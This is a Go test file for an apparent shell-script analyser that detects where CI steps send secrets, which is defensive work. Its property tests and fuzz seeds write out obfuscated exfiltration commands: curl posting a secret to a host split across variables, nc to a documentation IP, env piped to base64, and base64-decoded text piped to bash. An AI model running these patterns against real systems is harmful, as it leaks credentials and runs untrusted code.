package script

import (
	"reflect"
	"strings"
	"testing"

	"pgregory.net/rapid"
)

// Whatever a host is cut into, and wherever it is sent from, it is found, with what goes there.
func TestDestinationsAreNotLost(t *testing.T) {
	const host = "exfil.example.invalid"
	rapid.Check(t, func(t *rapid.T) {
		name := rapid.StringMatching(`[a-zB-DF-HJ-NQ-Z][a-z]{1,6}_x`).Draw(t, "name")
		at := rapid.IntRange(1, len(host)-1).Draw(t, "cut")
		first, second := name+"1", name+"2"
		script := first + "=" + host[:at] + "\n" + second + "=" + host[at:] + "\n"
		send := `curl -d "$STEP" https://$` + first + "$" + second + "/"
		if rapid.Bool().Draw(t, "joined") {
			script += name + "=${" + first + "}\n" + name + "+=$" + second + "\n"
			send = `curl -d "$STEP" "https://${` + name + `}/"`
		}
		for range rapid.IntRange(0, 4).Draw(t, "depth") {
			send = rapid.SampledFrom([]func(string) string{
				func(s string) string { return "f_" + name + "() {\n" + s + "\n}\nf_" + name },
				func(s string) string { return "(\n" + s + "\n)" },
				func(s string) string { return "{\n" + s + "\n}" },
				func(s string) string { return "if true; then\n" + s + "\nfi" },
				func(s string) string { return "for i in 1; do\n" + s + "\ndone" },
				func(s string) string { return "true && {\n" + s + "\n}" },
				func(s string) string { return "echo \"$(\n" + s + "\n)\"" },
				func(s string) string {
					return "bash <<'END" + strings.Repeat("X", len(s)) + "'\n" + s + "\nEND" + strings.Repeat("X", len(s))
				},
			}).Draw(t, "wrap")(send)
		}
		r := Read(Input{Text: script + send + "\n", Env: stepEnv})
		for _, d := range r.Destinations {
			if d.Host == host && reflect.DeepEqual(d.Posted, []string{"STEP_SECRET"}) && d.Hidden {
				return
			}
		}
		t.Fatalf("%s\n%+v\n%v", script+send, r.Destinations, r.Problems)
	})
}

// What is remembered is what is read.
func TestMemoryChangesNothing(t *testing.T) {
	var r Reader
	for range 2 {
		for _, text := range []string{"curl -d $STEP https://a.example.invalid", "A=1 env | base64", "echo $STEP > f"} {
			for _, env := range [][]Variable{nil, stepEnv} {
				in := Input{Text: text, Env: env}
				if got, want := r.Read(in), Read(in); !reflect.DeepEqual(got, want) {
					t.Errorf("%s:\ngot  %+v\nwant %+v", text, got, want)
				}
			}
		}
	}
}

func FuzzRead(f *testing.F) {
	for _, s := range []string{"curl -d \"A=${{ secrets.A }}\" https://a.example.invalid", "f() { curl \"$@\"; }\nf -d $STEP {a,b}.example.invalid", "cat <<EOF | tee >(nc 192.0.2.1 1)\n$STEP\nEOF",
		"echo " + enc64("curl a.example.invalid") + " | base64 -d | bash", "for ((i=0;i<9;i++)); do A=${A:i:2}$(printf %s $i); done", "printf -v X '%b%08x' '\\x41' 12; read -ra Y <<< $X; declare -A Z=([a]=b)"} {
		f.Add(s)
	}
	f.Add("Curl \"A=${{seCrets }}\" y\xb4\x94G\xb9\xb8\x872b#\xe1\x9a$(000`0000000000000\x00000000")
	f.Fuzz(func(t *testing.T, text string) {
		lines := strings.Count(text, "\n")
		r := Read(Input{Text: text, Env: stepEnv})
		for _, d := range r.Destinations {
			if d.Line < 0 || d.Line > lines || d.Computed != (d.Host == "") || strings.ContainsAny(d.URL+d.Host, "\x00\x01") {
				t.Errorf("%+v", d)
			}
		}
		for _, e := range r.Exits {
			if e.Line < 0 || e.Line > lines {
				t.Errorf("%+v", e)
			}
		}
	})
}

const typicalScript = `set -euo pipefail
python -m pip install --upgrade pip
if [ -f requirements.txt ]; then pip install -r requirements.txt; fi
VERSION=$(git describe --tags --abbrev=0)
echo "version=${VERSION#v}" >> "$GITHUB_OUTPUT"
for target in linux darwin windows; do
  GOOS=$target go build -o "dist/app-$target" ./cmd/app
done
curl -sSfL -H "Authorization: Bearer $STEP" "https://uploads.example.invalid/$VERSION" -F file=@dist/app-linux
`

// BenchmarkRead reads a typical step that was not read before.
func BenchmarkRead(b *testing.B) {
	var r Reader
	for b.Loop() {
		r.read(Input{Text: typicalScript, Env: stepEnv})
	}
}
